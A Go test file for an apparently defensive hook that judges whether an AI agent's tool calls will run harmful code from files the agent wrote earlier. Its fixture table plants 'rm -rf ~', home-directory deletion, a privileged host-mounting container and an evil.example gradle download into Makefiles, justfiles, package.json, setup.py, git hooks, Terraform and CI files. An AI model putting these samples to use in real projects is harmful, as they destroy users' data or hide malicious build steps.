package facts_test

import (
	"fmt"
	"runtime"
	"strings"
	"testing"

	"gate/facts"
	"gate/hook"
	"gate/internal/origin"
)

// TestMovesWritten has every way of writing a file tell that the agent decided about its
// text, where programs may run it.
func TestMovesWritten(t *testing.T) {
	files := files{"/p/Makefile": "all:\n\techo hi\n", "/p/note.txt": "x", "/p/gen.mk": "x:\n\techo\n"}
	left := ledgerOf{secrets: map[string]string{"/p/config.py": "environment file"}}
	r := facts.New(facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: files, Ledger: func(string, string) origin.Ledger { return left }})
	patch := "*** Begin Patch\n*** Update File: conftest.py\n@@\n-a\n+b\n*** Add File: new/build.rs\n+fn main() {}\n*** End Patch\n"
	for _, c := range []struct {
		tool  string
		input map[string]any
		want  string
	}{
		{"Bash", map[string]any{"command": "echo 'all:; ls' > Makefile"}, "Makefile"},
		{"Bash", map[string]any{"command": "cat > a.sh <<'E'\nls\nE\nchmod +x a.sh"}, "a.sh"},
		{"Bash", map[string]any{"command": "echo x | tee -a conftest.py >/dev/null"}, "conftest.py"},
		{"Bash", map[string]any{"command": "sed -i s/a/b/ Makefile"}, "Makefile"},
		{"Bash", map[string]any{"command": "cp gen.mk Makefile"}, "Makefile"},
		{"Bash", map[string]any{"command": "jq . package.json > t.json && mv t.json package.json"}, "package.json t.json"},
		{"Bash", map[string]any{"command": "curl -so run https://x.example/run"}, "run"},
		{"Bash", map[string]any{"command": "echo hi > note.txt; ls > out.log; mkdir d; touch e.py; rm f.py; cat g.py > /dev/null"}, ""},
		{"Bash", map[string]any{"command": "python3 -c \"open('setup.py','w').write('x')\""}, "setup.py"},
		{"Write", map[string]any{"file_path": "/p/sub/conftest.py", "content": "import os\n"}, "sub/conftest.py"},
		{"Write", map[string]any{"file_path": "/p/README.md", "content": "hi\n"}, ""},
		{"Write", map[string]any{"file_path": "/p/CMakeLists.txt", "content": "hi\n"}, "CMakeLists.txt"},
		{"Write", map[string]any{"file_path": "/p/.git/hooks/pre-commit", "content": "#!/bin/sh\nls\n"}, ".git/hooks/pre-commit"},
		{"Edit", map[string]any{"file_path": "/p/Makefile", "old_string": "hi", "new_string": "ho"}, "Makefile"},
		{"Edit", map[string]any{"file_path": "/p/gone.py", "old_string": "hi", "new_string": "ho"}, "gone.py"},
		{"MultiEdit", map[string]any{"file_path": "/p/Makefile", "edits": []any{map[string]any{"old_string": "hi", "new_string": "ho"}}}, "Makefile"},
		{"NotebookEdit", map[string]any{"notebook_path": "/p/a.ipynb", "new_source": "1"}, "a.ipynb"},
		{"apply_patch", map[string]any{"input": patch}, "conftest.py new/build.rs"},
		{"Read", map[string]any{"file_path": "/p/Makefile"}, ""},
	} {
		var got []string
		for _, m := range r.Of(toolEvent(c.tool, c.input)).Moves {
			if m.Written {
				got = append(got, strings.TrimPrefix(m.Path, "/p/"))
			}
		}
		if got := strings.Join(got, " "); got != c.want {
			t.Errorf("%s %v\n got %s\nwant %s", c.tool, c.input, got, c.want)
		}
	}
	moves := r.Of(toolEvent("Bash", map[string]any{"command": "date >> config.py; ls"})).Moves
	if len(moves) != 1 || moves[0].Secret != "environment file" || !moves[0].Written {
		t.Errorf("a text added to a secret: %+v", moves)
	}
}

func toolEvent(tool string, input map[string]any) *hook.Event {
	return &hook.Event{Name: hook.PreToolUse, Fields: map[string]any{"cwd": "/p", "tool_name": tool, "tool_input": input}}
}

// ledgerOf is a ledger of some secrets and of files that agents wrote.
type ledgerOf struct {
	secrets map[string]string
	written []string
}

func (l ledgerOf) Of(path string) (origin.Move, error) {
	return origin.Move{Path: path, Secret: l.secrets[path]}, nil
}
func (l ledgerOf) Below(string) ([]origin.Move, error) { return nil, nil }
func (l ledgerOf) Written() ([]string, error)          { return l.written, nil }

// A recipe is a file, a line of which a tool reads it, and what of the file is asked.
type recipe struct{ file, line, harmful, honest string }

var recipes = []recipe{
	{"Makefile", "make", "all:\n\trm -rf ~\n", "all: deps\n\tgo build -o bin/x ./...\ndeps:\n\tgo mod download\nnuke:\n\trm -rf ~\n"},
	{"Makefile", "make -C . nuke X=1", "all:\n\tls\nnuke: pre\npre:\n\trm -rf $(HOME)\n", "nuke:\n\trm -rf build\n"},
	{"sub/Makefile", "make -C sub", "all:\n\trm -rf ~\n", "all:\n\tls\n"},
	{"Makefile", "make", "URL = https://x.example\nall:\n\trm -rf ~\n", "URL = https://x.example\nall:\n\tls\nnuke:\n\trm -rf ~\n"},
	{"Makefile", "make", "define HELP\nusage: make\nendef\nifeq ($(X),a:b)\nendif\n%.o: %.c\n\tcc -c $<\nall:\n\trm -rf ~\n", "# a: b\n  # c: d\n$(info hi: there)\nall:\n\tls\nnuke:\n\trm -rf ~\n"},
	{"Makefile", "make", "all: $(HOME)\n\trm -rf $<\n", "B = build\nall: $(B)/w\n\t./$< | diff -w - want.txt\n$(B)/w: w.f90\n\tgfortran -J$(@D) -o $@ $^\n"},
	{"Makefile", "make", "all: | $(HOME)/x\n\trm -rf $(|D)\n", "all: build/x\n\trm -rf $(<D) $|\n"},
	{"Makefile", "make x", "x $(HOME):\n\trm -rf ${@}\n", "x build:\n\trm -rf $@\n%.o: %.c\n\tcc -c $< -o $@\n"},
	{"Makefile", "make", ".DEFAULT_GOAL := nuke\nall:\n\tls\nnuke:\n\trm -rf ~\n", ".DEFAULT_GOAL := all\nnuke:\n\trm -rf ~\nall:\n\tls\n"},
	{"Makefile", "make", "X != rm -rf ~\nall:\n\tls\n", "X != date\nY != git rev-parse HEAD\nall:\n\tls\n"},
	{"Makefile", "make", "X := $(shell date)$(shell rm -rf ~)\nall:\n\tls\n", "X := $(shell git rev-parse HEAD)/$(shell date)\nall:\n\tls\n"},
	{"Makefile", "make", "X := ${shell rm -rf ~}\nall:\n\tls\n", "X := ${shell date}\nall:\n\tls\n"},
	{"Makefile", "make", "all:\n\techo ${shell rm -rf ~}\n", "all:\n\tls $(shell date)\n"},
	{"Makefile", "make", "X = rm -rf\nX += ~\nall:\n\t$(X)\n", "X ?= ls\nX ?= rm -rf ~\nall:\n\t$(X)\n"},
	{"Makefile", "make", ".RECIPEPREFIX = >\nall:\n>rm -rf ~\n", ".RECIPEPREFIX = >\nall:\n>ls\n"},
	{"more.mk", "make", "x:\n\trm -rf ~\nall: x\n", "x:\n\tls\n"},
	{"justfile", "just", "default: clean\n\nclean:\n    rm -rf ~\n", "default:\n    cargo test\n\n# for nobody\nnuke:\n    rm -rf ~\n"},
	{"justfile", "just clean", "clean:\n    #!/usr/bin/env bash\n    set -e\n    rm -rf ~\n", "alias c := clean\nclean dir='build':\n    rm -rf {{dir}}\n"},
	{"justfile", "just", "alias b := build\nall:\n    rm -rf ~\nbuild:\n    ls\n", "alias n := nuke\nall:\n    ls\nnuke:\n    rm -rf ~\n"},
	{"justfile", "just all", "all:\n    @just clean\nclean:\n    rm -rf ~\n", "all:\n    @just test\ntest:\n    ls\nclean:\n    rm -rf ~\n"},
	{"justfile", "just", "all:\n    ls\n[default]\nnuke:\n    rm -rf ~\n", "nuke:\n    rm -rf ~\n[group('x'), default]\nall:\n    ls\n"},
	{"Taskfile.yml", "task build", "version: '3'\ntasks:\n  build:\n    deps: [gen]\n    cmds:\n      - task: other\n      - echo done\n  gen:\n    cmds:\n      - rm -rf ~\n",
		"version: '3'\ntasks:\n  build:\n    cmds:\n      - go build ./...\n  nuke:\n    cmds:\n      - rm -rf ~\n"},
	{"package.json", "npm install", `{"scripts": {"postinstall": "rm -rf ~"}}`, `{"scripts": {"postinstall": "husky", "nuke": "rm -rf ~"}}`},
	{"package.json", "pnpm run build", `{"scripts": {"build": "rm -rf ~"}}`, `{"scripts": {"build": "vite build", "nuke": "rm -rf ~"}}`},
	{"package.json", "bun run build", `{"scripts": {"prebuild": "rm -rf ~", "build": "ls"}}`, `{"scripts": {"build": "vite build"}}`},
	{"vite.config.js", "vite build", "require('child_process').execSync('rm -rf ~')\n", "export default { build: { outDir: 'dist' } }\n"},
	{"build.rs", "cargo build", "fn main() { std::process::Command::new(\"rm\").arg(\"-rf\").arg(\"/home/dev\").status(); }\n", "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n"},
	{".cargo/config.toml", "cargo test", "[target.x86_64-unknown-linux-gnu]\nrunner = \"rm -rf /home/dev\"\n", "[build]\nrustc-wrapper = \"sccache\"\n[target.x]\nlinker = \"clang\"\n"},
	{"conftest.py", "pytest -q", "import shutil\nshutil.rmtree('/home/dev')\n", "import pytest\n\n@pytest.fixture\ndef db(tmp_path):\n    return tmp_path / 'x'\n"},
	{"tests/conftest.py", "pytest", "import os\nos.system('rm -rf ~')\n", "import os\nos.environ['X'] = '1'\n"},
	{"tox.ini", "tox", "[testenv]\ncommands =\n    rm -rf /home/dev\n", "[testenv]\ncommands =\n    pytest {posargs}\n"},
	{"noxfile.py", "nox -s tests", "import shutil\nshutil.rmtree('/home/dev')\n", "import nox\n\n@nox.session\ndef tests(session):\n    session.run('pytest')\n"},
	{"setup.py", "pip install -e .", "import os\nos.system('rm -rf ~')\n", "from setuptools import setup\nsetup(name='x')\n"},
	{"pyproject.toml", "poe clean", "[tool.poe.tasks]\nclean = \"rm -rf /home/dev\"\n", "[tool.poe.tasks]\nclean = \"rm -rf build\"\n"},
	{"build.gradle", "./gradlew build", "\"rm -rf /home/dev\".execute()\n", "plugins { id 'java' }\n"},
	{"gradle/wrapper/gradle-wrapper.properties", "./gradlew build", "distributionUrl=https\\://evil.example/gradle.zip\n", "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n"},
	{"pom.xml", "mvn verify", "<configuration><executable>rm</executable><arguments><argument>-rf</argument><argument>${user.home}</argument></arguments></configuration>\n",
		"<configuration><executable>node</executable><arguments><argument>build.js</argument></arguments></configuration>\n"},
	{"composer.json", "composer install", `{"scripts": {"post-install-cmd": "rm -rf ~"}}`, `{"scripts": {"post-install-cmd": "phpunit"}}`},
	{"Rakefile", "rake", "task :default do\n  sh 'rm -rf ~'\nend\n", "task :default do\n  sh 'rspec'\nend\n"},
	{"Gemfile", "bundle install", "system('rm -rf ~')\n", "source 'https://rubygems.org'\ngem 'rails'\n"},
	{"gen.go", "go generate ./...", "package x\n\n//go:generate rm -rf /home/dev\n", "package x\n\n//go:generate stringer -type=T\n"},
	{"x_test.go", "go test ./...", "package x\nfunc TestX(t *T) { os.RemoveAll(\"/home/dev\") }\n", "package x\n\n//go:generate rm -rf /home/dev\n"},
	{".husky/pre-commit", "git commit -m x", "rm -rf ~\n", "npx --no-install lint-staged\n"},
	{".git/hooks/pre-push", "git push origin feature", "#!/bin/sh\nrm -rf ~\n", "#!/bin/sh\ngo test ./...\n"},
	{".git/hooks/post-commit", "git commit -m x", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/home/dev')\n", "#!/bin/sh\nexit 0\n"},
	{".husky/post-commit", "git commit --no-verify -m x", "rm -rf ~\n", "ls\n"},
	{".git/hooks/reference-transaction", "git fetch", "#!/bin/sh\nrm -rf ~\n", "#!/bin/sh\nexit 0\n"},
	{".git/hooks/post-index-change", "git add x", "#!/bin/sh\nrm -rf ~\n", "#!/bin/sh\nexit 0\n"},
	{".husky/post-rewrite", "git commit --amend -m x", "rm -rf ~\n", "ls\n"},
	{"hooks/pre-commit", "git config core.hooksPath hooks; git commit -m x", "rm -rf ~\n", "gofmt -l .\n"},
	{".pre-commit-config.yaml", "pre-commit run", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: rm -rf /home/dev\n", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: gofmt -l\n"},
	{"lefthook.yml", "lefthook run pre-commit", "pre-commit:\n  commands:\n    x:\n      run: rm -rf ~\n", "pre-commit:\n  commands:\n    x:\n      run: gofmt -l .\n"},
	{".envrc", "direnv reload", "rm -rf ~\n", "export X=1\n"},
	{"compose.yaml", "docker compose up", "services:\n  x:\n    image: alpine\n    privileged: true\n    volumes:\n      - /:/host\n", "services:\n  x:\n    image: alpine\n    volumes:\n      - ./data:/data\n"},
	{"main.tf", "terraform apply", "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"rm -rf ~\"\n  }\n}\n", "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"echo hi\"\n  }\n}\n"},
	{"main.tf", "terraform apply", "provisioner \"local-exec\" {\n  command = <<-EOT\n    rm -rf ~\n  EOT\n}\n", "provisioner \"local-exec\" {\n  command = <<EOT\nls\nEOT\n}\n"},
	{"site.yml", "ansible-playbook site.yml", "- hosts: localhost\n  tasks:\n  - name: x\n    shell: rm -rf ~\n", "- hosts: localhost\n  tasks:\n  - name: x\n    command: ls\n"},
	{".github/workflows/ci.yml", "act push", "jobs:\n  x:\n    steps:\n    - run: rm -rf ~\n", "jobs:\n  x:\n    steps:\n    - run: go test ./...\n"},
}

// harms reports an effect that the honest files of the table do not have.
func harms(f *hook.Facts) bool {
	for _, e := range f.Effects {
		switch is := e.Is.(type) {
		case *hook.FSDelete:
			if is.Area == "home" {
				return true
			}
		case *hook.Container:
			if is.Privileged {
				return true
			}
		case *hook.ExecRemote:
			return true
		}
	}
	return false
}

// TestWrittenThenRun has a file that an earlier call wrote be judged when a tool reads it.
func TestWrittenThenRun(t *testing.T) {
	of := func(c recipe, text string, written ...string) *hook.Facts {
		there := files{"/p/" + c.file: text, "/p/.git/HEAD": "ref: refs/heads/x", "/p/x.py": "import os\nos.system('rm -rf ~')\n"}
		if c.file == "more.mk" {
			there["/p/Makefile"] = "all:\ninclude more.mk\n"
		}
		left := ledgerOf{written: written}
		w := facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: there, Ledger: func(string, string) origin.Ledger { return left }}
		return facts.New(w).Of(toolEvent("Bash", map[string]any{"command": c.line}))
	}
	for _, c := range recipes {
		if f := of(c, c.harmful, "/p/"+c.file); !harms(f) {
			t.Errorf("%s by %s: what an agent wrote is not judged", c.file, c.line)
		}
		for _, written := range [][]string{nil, {"/p/" + c.file}} {
			if f := of(c, c.honest, written...); harms(f) || len(f.Unknown) > 0 {
				t.Errorf("%s by %s, written %v: %v %+v", c.file, c.line, written, harms(f), f.Unknown)
			}
		}
	}
	if f := of(recipe{file: "conftest.py", line: "pytest"}, "import x\n", "/p/conftest.py", "/p/x.py"); !harms(f) {
		t.Error("what a written file loads is not judged")
	}
	w := facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: files{"/p/makefile": "all:\n\tls\n", "/p/GNUmakefile": "all:\n\trm -rf ~\n"}}
	if f := facts.New(w).Of(toolEvent("Bash", map[string]any{"command": "make"})); !harms(f) {
		t.Error("GNUmakefile comes before makefile")
	}
	w.Ledger = func(string, string) origin.Ledger {
		return ledgerOf{written: []string{"/p/tool/mod.just", "/p/.envrc"}}
	}
	w.Files = files{"/p/justfile": "mod tool\nall:\n\tls\n", "/p/tool/mod.just": "clean:\n\trm -rf ~\n", "/p/.envrc": strings.Repeat("# long\n", 20000)}
	if f := facts.New(w).Of(toolEvent("Bash", map[string]any{"command": "just tool::clean"})); !harms(f) {
		t.Error("a module of a justfile is not judged")
	}
	if f := facts.New(w).Of(toolEvent("Bash", map[string]any{"command": "direnv reload"})); len(f.Unknown) == 0 {
		t.Error("a file that is too long is passed over in silence")
	}
	for line, want := range map[string]bool{"make": true, "make deps": true, "make other": false} {
		for _, written := range [][]string{nil, {"/p/sub.mk"}, {"/p/Makefile"}} {
			w.Files = files{"/p/Makefile": "all: deps\ninclude sub.mk\nother:\n\tls\n", "/p/sub.mk": "first:\n\tls\ndeps:\n\trm -rf ~\n"}
			w.Ledger = func(string, string) origin.Ledger { return ledgerOf{written: written} }
			if f := facts.New(w).Of(toolEvent("Bash", map[string]any{"command": line})); harms(f) != want && (want || len(written) == 0) {
				t.Errorf("%s, written %v: a rule of an included makefile: %v", line, written, !want)
			}
		}
	}
	if f := of(recipe{file: "Makefile", line: "make -n"}, "all:\n\trm -rf ~\n", "/p/Makefile"); harms(f) {
		t.Error("make -n runs nothing")
	}
}

// TestRecipesAreBounded has files that tools read take a bounded amount of work: values
// that stand in each other, and targets of which each needs the next one.
func TestRecipesAreBounded(t *testing.T) {
	values := "all:\n\techo $(A)\n"
	for _, v := range []string{"AB", "BC", "CD", "DE"} {
		values += v[:1] + " = " + strings.Repeat("$("+v[1:]+")", 300) + "\n"
	}
	var chain strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&chain, "%x:%x\n", i+1, i)
	}
	there := files{}
	for i := range 12 {
		for _, s := range []string{"a", "b"} {
			there[fmt.Sprintf("/p/%s%d.mk", s, i)] = fmt.Sprintf("include a%d.mk b%d.mk\n", i+1, i+1)
		}
	}
	for _, c := range []recipe{
		{file: "Makefile", line: "make", harmful: "include a0.mk b0.mk\n"},
		{file: "Makefile", line: "make", harmful: values},
		{file: "Makefile", line: "make 1388", harmful: chain.String()},
		{file: "justfile", line: "just 1388", harmful: chain.String()},
	} {
		there["/p/"+c.file] = c.harmful
		w := facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: there}
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		facts.New(w).Of(toolEvent("Bash", map[string]any{"command": c.line}))
		runtime.ReadMemStats(&after)
		if n, size := after.Mallocs-before.Mallocs, after.TotalAlloc-before.TotalAlloc; n > maxWork || size > maxBytes {
			t.Errorf("%s: %.30q: %d allocations, %d MB", c.line, c.harmful, n, size>>20)
		}
	}
}

// FuzzWrittenThenRun has tools read any text that an agent wrote, or that was there.
func FuzzWrittenThenRun(f *testing.F) {
	for i, c := range recipes {
		f.Add(i, c.harmful, true)
		f.Add(i, c.honest, false)
		f.Add(i, "", true)
	}
	f.Fuzz(func(t *testing.T, i int, text string, written bool) {
		c := recipes[uint(i)%uint(len(recipes))]
		left := ledgerOf{}
		if written {
			left.written = []string{"/p/" + c.file}
		}
		w := facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: files{"/p/" + c.file: text, "/p/.git/HEAD": "x"}}
		w.Ledger = func(string, string) origin.Ledger { return left }
		facts.New(w).Of(toolEvent("Bash", map[string]any{"command": c.line}))
	})
}

// TestLedgerUnopened holds that calls which run no file of agents' open no ledger.
func TestLedgerUnopened(t *testing.T) {
	for line, want := range map[string]int{"ls -la": 0, "git status": 0, "echo hi": 0, "docker ps": 1, "make": 1} {
		opened := 0
		w := facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: files{}, Ledger: func(string, string) origin.Ledger { opened++; return ledgerOf{} }}
		facts.New(w).Of(toolEvent("Bash", map[string]any{"command": line}))
		if opened != want {
			t.Errorf("%s opens the ledger %d times, want %d", line, opened, want)
		}
	}
}

// TestWrittenUnknown holds that code which nobody knows counts in a text that an agent wrote,
// and says so. The same from before is the owner's. Variables of a statement are everyday.
func TestWrittenUnknown(t *testing.T) {
	files := files{"/p/Makefile": "all:\n\teval \"$$CMD\"\n", "/p/x.sh": "eval \"$CMD\"\n", "/p/db.sh": "psql -c \"select $1\"\n", "/p/plain.sh": "go build ./...\n"}
	for file, lines := range map[string][]string{"Makefile": {"make"}, "x.sh": {"sh x.sh", "./x.sh", "bash /p/x.sh a"}, "db.sh": {"sh db.sh", "./db.sh"}, "plain.sh": {"sh plain.sh"}} {
		for _, line := range lines {
			for _, written := range []bool{true, false} {
				left := ledgerOf{}
				if written {
					left.written = []string{"/p/" + file}
				}
				r := facts.New(facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: files, Ledger: func(string, string) origin.Ledger { return left }})
				got := false
				for _, one := range r.Of(toolEvent("Bash", map[string]any{"command": line})).Unknown {
					got = got || one.Written
				}
				if want := written && (file == "Makefile" || file == "x.sh"); got != want {
					t.Errorf("%s, written: %t: unknown code of an agent: %t", line, written, got)
				}
			}
		}
	}
}

// TestWrittenAndTyped holds that unknown code on the line stays the line's, though a text of
// an agent has it, too: whoever switches the policy of such texts off switches no more off.
func TestWrittenAndTyped(t *testing.T) {
	left := ledgerOf{written: []string{"/p/Makefile", "/p/x.sh"}}
	r := facts.New(facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Ledger: func(string, string) origin.Ledger { return left },
		Files: files{"/p/Makefile": "all:\n\teval \"$$CMD\"\n\teval \"$$CMD\"\n", "/p/x.sh": "eval \"$CMD\"\n"}})
	for _, line := range []string{`make; eval "$CMD"`, `eval "$CMD"; make`, `sh x.sh; eval "$CMD"`, `eval "$CMD"; ./x.sh`} {
		count := map[bool]int{}
		for _, one := range r.Of(toolEvent("Bash", map[string]any{"command": line})).Unknown {
			count[one.Written]++
		}
		if count[true] != 1 || count[false] != 1 {
			t.Errorf("%s: %d of an agent, %d of the line", line, count[true], count[false])
		}
	}
}

// TestStatementsWithin has files of statements that take each other in end.
func TestStatementsWithin(t *testing.T) {
	left := ledgerOf{written: []string{"/p/a.sql", "/p/b.sql"}}
	r := facts.New(facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Ledger: func(string, string) origin.Ledger { return left },
		Files: files{"/p/a.sql": "\\i b.sql\nselect 1;\n", "/p/b.sql": "\\i a.sql\nselect 2;\n"}})
	if f := r.Of(toolEvent("Bash", map[string]any{"command": "psql -f a.sql"})); len(f.Unknown) > 0 {
		t.Errorf("%+v", f.Unknown)
	}
}
